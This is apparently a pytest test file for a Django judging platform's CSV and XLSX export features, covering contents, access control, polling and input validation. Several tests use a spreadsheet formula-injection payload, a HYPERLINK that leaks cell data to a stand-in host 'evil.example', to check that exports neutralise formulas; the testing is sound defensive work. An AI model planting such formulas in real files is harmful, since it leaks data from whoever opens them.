import csv
import io

from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from judging.export_tasks import run_export_job
from judging.exports import export_job_run, export_job_start, rows_to_csv, rows_to_xlsx
from judging.models import (
    Assignment,
    Criterion,
    CriterionScore,
    ExportJob,
    Panel,
    PanelMember,
    Review,
)
from submissions.models import Contact
from submissions.workflow import Status
from tests import factories
from tests.submissions.factories_console import entry


def _cycle_with_scores():
    cycle = factories.CycleFactory(number=7)
    sub = entry(
        cycle=cycle, status=Status.ELIGIBLE, title="Clean air", goals=[3, 11], topic="Smart city"
    )
    Contact.objects.create(submission=sub, name="Lin", email="lin@example.org", phone="+86 1")
    entry(cycle=factories.CycleFactory(number=6), status=Status.WINNER, title="Elsewhere")
    reviewer = factories.UserFactory(email="expert@example.org", full_name="Dr Expert")
    panel = Panel.objects.create(cycle=cycle, kind="tc")
    member = PanelMember.objects.create(panel=panel, user=reviewer)
    innovation = Criterion.objects.create(panel=panel, name="Innovation", order=1)
    impact = Criterion.objects.create(panel=panel, name="Impact", order=2)
    assignment = Assignment.objects.create(
        panel=panel, submission=sub, reviewer=member, state="active"
    )
    review = Review.objects.create(
        assignment=assignment,
        overall_comment="Strong",
        recommendation="shortlist",
        submitted_at=timezone.now(),
    )
    CriterionScore.objects.create(review=review, criterion=innovation, value=8, comment="New")
    CriterionScore.objects.create(review=review, criterion=impact, value=6)
    return cycle, sub


def _csv_rows(job):
    with job.file.open("rb") as f:
        return list(csv.DictReader(io.StringIO(f.read().decode("utf-8-sig"))))


def test_export_entries_csv_has_all_fields_of_the_cycle(
    db, secretariat, django_capture_on_commit_callbacks
):
    cycle, sub = _cycle_with_scores()

    with django_capture_on_commit_callbacks(execute=True):
        job = export_job_start(kind="entries", fmt="csv", cycle=cycle, by=secretariat)

    job.refresh_from_db()
    assert (job.status, job.progress) == ("done", 100)
    rows = _csv_rows(job)
    assert len(rows) == 1
    row = rows[0]
    assert {
        k: row[k] for k in ("reference", "title", "status", "country", "continent", "sdgs", "topic")
    } == {
        "reference": sub.reference,
        "title": "Clean air",
        "status": "eligible",
        "country": "BR",
        "continent": "South America",
        "sdgs": "3 11",
        "topic": "Smart city",
    }
    assert "lin@example.org" in row["contacts"]


def test_export_scores_xlsx_one_row_per_reviewer_and_criterion(
    db, secretariat, django_capture_on_commit_callbacks
):
    cycle, sub = _cycle_with_scores()

    with django_capture_on_commit_callbacks(execute=True):
        job = export_job_start(kind="scores", fmt="xlsx", cycle=cycle, by=secretariat)

    job.refresh_from_db()
    with job.file.open("rb") as f:
        sheet = load_workbook(io.BytesIO(f.read())).active
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    picked = [
        {
            k: r[header.index(k)]
            for k in (
                "reference",
                "reviewer_email",
                "criterion",
                "score",
                "criterion_comment",
                "recommendation",
            )
        }
        for r in rows[1:]
    ]
    assert picked == [
        {
            "reference": sub.reference,
            "reviewer_email": "expert@example.org",
            "criterion": "Innovation",
            "score": 8,
            "criterion_comment": "New",
            "recommendation": "shortlist",
        },
        {
            "reference": sub.reference,
            "reviewer_email": "expert@example.org",
            "criterion": "Impact",
            "score": 6,
            "criterion_comment": None,
            "recommendation": "shortlist",
        },
    ]


def test_export_job_run_twice_is_like_once(db, secretariat):
    cycle, _sub = _cycle_with_scores()
    job = ExportJob.objects.create(kind="entries", fmt="csv", cycle=cycle, requested_by=secretariat)
    run_export_job.delay(job.pk)
    job.refresh_from_db()
    first_name = job.file.name

    export_job_run(job=job)

    job.refresh_from_db()
    assert (job.status, job.file.name) == ("done", first_name)


def test_export_download_is_secretariat_only(
    client, db, secretariat, django_capture_on_commit_callbacks
):
    cycle, _sub = _cycle_with_scores()
    with django_capture_on_commit_callbacks(execute=True):
        job = export_job_start(kind="entries", fmt="csv", cycle=None, by=secretariat)
    url = reverse("console:export_download", args=[job.token])

    assert client.get(url).status_code == 302  # to the sign-in page
    client.force_login(factories.CityOfficialFactory())
    assert client.get(url).status_code == 403
    client.force_login(secretariat)
    response = client.get(url)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert [r["title"] for r in csv.DictReader(io.StringIO(body))] == ["Elsewhere", "Clean air"]


def test_export_page_starts_job_and_polls_until_ready(
    client, db, secretariat, django_capture_on_commit_callbacks
):
    cycle, _sub = _cycle_with_scores()
    client.force_login(secretariat)
    job = ExportJob.objects.create(kind="scores", fmt="csv", cycle=cycle, requested_by=secretariat)

    pending = client.get(reverse("console:export_status", args=[job.token])).content.decode()
    assert 'hx-trigger="every 2s"' in pending

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("console:exports"), {"kind": "scores", "fmt": "csv", "cycle": cycle.pk}
        )
    assert response.status_code == 302
    newest = ExportJob.objects.order_by("-created_at", "-id").first()
    done = client.get(reverse("console:export_status", args=[newest.token])).content.decode()
    assert reverse("console:export_download", args=[newest.token]) in done
    assert "hx-trigger" not in done


def test_export_page_bad_input_shows_message(client, db, secretariat):
    client.force_login(secretariat)

    response = client.post(reverse("console:exports"), {"kind": "passwords", "fmt": "pdf"})

    assert response.status_code == 400
    assert ExportJob.objects.count() == 0
    assert "Select a valid choice." in response.content.decode()


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def test_export_csv_writes_a_formula_typed_by_a_city_as_text(
    db, secretariat, django_capture_on_commit_callbacks
):
    cycle, sub = _cycle_with_scores()
    sub.title = FORMULA
    sub.subtitle = "@SUM(1+1)"
    sub.save(update_fields=["title", "subtitle"])

    with django_capture_on_commit_callbacks(execute=True):
        job = export_job_start(kind="entries", fmt="csv", cycle=cycle, by=secretariat)

    job.refresh_from_db()
    row = _csv_rows(job)[0]
    assert (row["title"], row["subtitle"]) == ("'" + FORMULA, "'@SUM(1+1)")


def test_export_xlsx_writes_a_formula_typed_by_a_city_as_a_string_cell(
    db, secretariat, django_capture_on_commit_callbacks
):
    cycle, sub = _cycle_with_scores()
    sub.title = FORMULA
    sub.save(update_fields=["title"])

    with django_capture_on_commit_callbacks(execute=True):
        job = export_job_start(kind="entries", fmt="xlsx", cycle=cycle, by=secretariat)

    job.refresh_from_db()
    with job.file.open("rb") as f:
        sheet = load_workbook(io.BytesIO(f.read())).active
    header = [c.value for c in sheet[1]]
    title = sheet.cell(row=2, column=header.index("title") + 1)
    assert (title.data_type, title.value) == ("s", "'" + FORMULA)
    numbers = sheet.cell(row=2, column=header.index("cycle") + 1)
    assert (numbers.data_type, numbers.value) == ("n", 7)


def test_rows_to_xlsx_never_writes_a_formula_cell():
    content = rows_to_xlsx(["a", "b", "c"], [["=1+1", "-5", -5]])

    sheet = load_workbook(io.BytesIO(content)).active
    cells = [(c.data_type, c.value) for c in sheet[2]]
    assert cells == [("s", "'=1+1"), ("s", "'-5"), ("n", -5)]


def test_rows_to_csv_quotes_every_formula_start():
    content = rows_to_csv(["v"], [["=1"], ["+1"], ["-1"], ["@1"], ["\t1"], ["\r1"], [-1]])

    values = [r[0] for r in csv.reader(io.StringIO(content.decode("utf-8-sig")))][1:]
    assert values == ["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1", "-1"]
